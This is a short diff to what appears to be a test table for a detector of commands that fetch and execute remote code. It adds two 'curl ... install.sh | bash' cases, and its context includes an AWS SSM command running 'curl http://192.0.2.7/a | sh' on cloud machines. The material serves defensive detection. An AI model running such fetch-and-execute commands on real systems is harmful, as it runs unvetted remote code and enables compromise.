@@ -13,6 +13,12 @@ const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'the script of a scanner as it is today': script(
+      'curl -s https://raw.githubusercontent.com/kubescape/kubescape/master/install.sh | bash',
+    ),
+    'a script of another account of the same code host': script(
+      'curl -s https://raw.githubusercontent.com/kubescape-tools/kubescape/v3.0.11/install.sh | bash -s -- -v v3.0.11',
+    ),
     'a download that machines of the cloud run': script(
       `aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=["cd /tmp","curl http://192.0.2.7/a | sh"]'`,
     ),
